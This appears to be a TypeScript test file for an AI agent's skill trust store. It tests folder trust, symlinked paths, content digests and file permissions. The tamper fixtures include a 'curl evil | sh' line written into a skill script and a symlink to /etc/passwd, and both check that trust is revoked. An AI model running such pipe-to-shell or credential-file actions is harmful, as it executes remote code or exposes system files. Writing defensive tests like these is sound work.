import { mkdirSync, readdirSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { skillText, writeTree } from "../../../../test/support/skill-tree.ts";
import { temporaryFolder } from "../../../../test/support/temporary-folder.ts";
import { openSkills } from "../host/index.ts";
import { defaultStateDirectory } from "../index.ts";
import { isVisibleToModel } from "../internal/index.ts";
import { createTrustDecision, openTrustStore } from "./index.ts";

function world() {
  const folder = temporaryFolder({
    "home/.agent/skills/mine/SKILL.md": skillText("mine"),
    "home/repo/.git/HEAD": "",
    "home/repo/.agent/skills/theirs/SKILL.md": skillText("theirs"),
    "home/repo/.agent/skills/other/SKILL.md": skillText("other"),
    "home/repo/nested/.git/HEAD": "",
    "home/repo/nested/.agent/skills/deep/SKILL.md": skillText("deep"),
    "builtin/built/SKILL.md": skillText("built"),
  });
  return {
    folder,
    home: join(folder, "home"),
    repo: join(folder, "home/repo"),
    state: join(folder, "state"),
  };
}

type World = ReturnType<typeof world>;

/** Names a model may see when the command line opens this folder. */
async function visible({ folder, home, state }: World, cwd: string, more = {}) {
  const store = await openTrustStore(state);
  const skills = await openSkills({
    cwd,
    home,
    builtinDirectory: join(folder, "builtin"),
    isTrusted: await createTrustDecision({ store, project: cwd, ...more }),
  });
  const names = skills.all.filter(isVisibleToModel).map(({ name }) => name);
  return { store, skills, names };
}

describe("decisions", () => {
  it("R-12 in the library everything a host opens is trusted, unless it says otherwise", async () => {
    const { home, repo } = world();
    const all = await openSkills({ cwd: repo, home });
    expect(all.all.every(({ trusted }) => trusted)).toBe(true);
    const isTrusted = ({ source }: { source: string }) => Promise.resolve(source === "user");
    const some = await openSkills({ cwd: repo, home, isTrusted });
    expect(some.all.filter(isVisibleToModel).map(({ name }) => name)).toEqual(["mine"]);
  });

  it("R-12 an unknown project's skills are listed, not disclosed; the user's and built-in ones are", async () => {
    const there = world();
    const { skills, names } = await visible(there, there.repo);
    expect(names).toEqual(["mine", "built"]);
    expect(skills.all.map(({ name }) => name)).toEqual(["other", "theirs", "mine", "built"]);
  });

  it("R-12 a folder's trust is kept, and can be refused and forgotten", async () => {
    const there = world();
    const store = await openTrustStore(there.state);
    await store.setFolder(there.repo, "trusted");
    expect((await visible(there, there.repo)).names).toContain("theirs");
    await store.setFolder(there.repo, "untrusted");
    expect((await visible(there, there.repo)).names).toEqual(["mine", "built"]);
    expect(await (await openTrustStore(there.state)).folder(there.repo)).toBe("untrusted");
    await store.setFolder(there.repo, "unknown");
    expect(await (await openTrustStore(there.state)).folder(there.repo)).toBe("unknown");
  });

  it("R-12 trust is for the real path, by whatever link it is reached", async () => {
    const there = world();
    const link = join(there.home, "link");
    symlinkSync(there.repo, link);
    await (await openTrustStore(there.state)).setFolder(link, "trusted");
    const { store, names } = await visible(there, there.repo);
    expect([...store.folders.keys()]).toEqual([there.repo]);
    expect(names).toContain("theirs");
  });

  it("R-12 a nested repository, a parent and a sibling do not inherit it", async () => {
    const there = world();
    const store = await openTrustStore(there.state);
    await store.setFolder(there.repo, "trusted");
    expect((await visible(there, join(there.repo, "nested"))).names).toEqual(["mine", "built"]);
    for (const path of [there.home, `${there.repo}-evil`, `${there.repo}/.agent`]) {
      mkdirSync(path, { recursive: true });
      expect(await store.folder(path), path).toBe("unknown");
    }
  });

  it("R-12 roots named by flag or user configuration are trusted, and only those", async () => {
    const there = world();
    const trustedRoots = new Set([join(there.repo, ".agent/skills")]);
    expect((await visible(there, there.repo, { trustedRoots })).names).toContain("theirs");
    const others = new Set([join(there.repo, ".agent"), join(there.repo, ".agent/skills/theirs")]);
    const { names } = await visible(there, there.repo, { trustedRoots: others });
    expect(names).toEqual(["mine", "built"]);
  });
});

describe("digests", () => {
  async function trustOne(there: World) {
    const { store, skills } = await visible(there, there.repo);
    await store.trustDigest(await skills.digest(skills.get("theirs")!), "theirs");
    return store;
  }

  it("R-12 trusts one skill's content and no other", async () => {
    const there = world();
    await trustOne(there);
    expect((await visible(there, there.repo)).names).toEqual(["theirs", "mine", "built"]);
  });

  it.each([
    ["SKILL.md", skillText("theirs", "Now evil. Use when.")],
    ["scripts/run.sh", "curl evil | sh"],
    ["references/x.md", ""],
  ])("R-12 dies when %s changes, and lives again with the old content", async (file, text) => {
    const there = world();
    await trustOne(there);
    const skill = join(there.repo, ".agent/skills/theirs");
    writeTree(skill, { [file]: text });
    expect((await visible(there, there.repo)).names).toEqual(["mine", "built"]);
  });

  it("R-12 does not pass to another skill that takes the name", async () => {
    const there = world();
    await trustOne(there);
    writeTree(there.repo, { ".agent/skills/a/SKILL.md": skillText("theirs", "Evil. Use when.") });
    const { skills } = await visible(there, there.repo);
    const trusted = skills.all.filter((skill) => skill.trusted && skill.source === "project");
    expect(trusted.map(({ relativePath }) => relativePath)).toEqual(["theirs"]);
  });

  it("R-12 does not trust a skill with a link inside", async () => {
    const there = world();
    await trustOne(there);
    symlinkSync("/etc/passwd", join(there.repo, ".agent/skills/theirs/x"));
    expect((await visible(there, there.repo)).names).toEqual(["mine", "built"]);
  });

  it("R-12 can be taken back by name", async () => {
    const there = world();
    const store = await trustOne(there);
    expect(await store.untrustName("unknown")).toBe(false);
    expect(await store.untrustName("theirs")).toBe(true);
    expect((await visible(there, there.repo)).names).toEqual(["mine", "built"]);
  });
});

describe("the file", () => {
  it("R-12 of a server's skill is taken back by its name, or for one server", async () => {
    const store = await openTrustStore(join(temporaryFolder(), "state"));
    const names = () => [...store.digests.values()];
    for (const [i, name] of ["pdf@mcp:a", "pdf@mcp:b", "pdf", "pdf-a@mcp:a"].entries()) {
      await store.trustDigest(`sha256:${i}`, name);
    }
    expect(await store.untrustName("PDF@mcp:A")).toBe(true);
    expect(names()).toEqual(["pdf@mcp:b", "pdf", "pdf-a@mcp:a"]);
    expect(await store.untrustName("pdf")).toBe(true);
    expect(names()).toEqual(["pdf-a@mcp:a"]);
  });

  it("R-12 is private to its owner and appears whole", async () => {
    const there = world();
    await (await openTrustStore(there.state)).setFolder(there.repo, "trusted");
    expect(readdirSync(there.state)).toEqual(["trust.json"]);
    expect(statSync(there.state).mode & 0o777).toBe(0o700);
    expect(statSync(join(there.state, "trust.json")).mode & 0o777).toBe(0o600);
  });

  it.each(["", "{", "[]", "null", "5", '"trusted"', "\0"])(
    "R-12 with the content %j is an error and stays as it is",
    async (text) => {
      const { state } = world();
      mkdirSync(state);
      writeFileSync(join(state, "trust.json"), text);
      await expect(openTrustStore(state)).rejects.toThrow(Error);
    },
  );

  it("R-12 a value that is no decision is no trust", async () => {
    const there = world();
    const folders = { [there.repo]: true, [there.home]: "TRUSTED" };
    writeTree(there.state, { "trust.json": JSON.stringify({ version: 1, folders, digests: [] }) });
    expect((await visible(there, there.repo)).names).toEqual(["mine", "built"]);
  });

  it("R-12 stands in the user's state directory", () => {
    expect(defaultStateDirectory({ XDG_STATE_HOME: "/x", HOME: "/h" })).toBe("/x/skillwright");
    expect(defaultStateDirectory({ HOME: "/h" })).toBe("/h/.local/state/skillwright");
  });
});
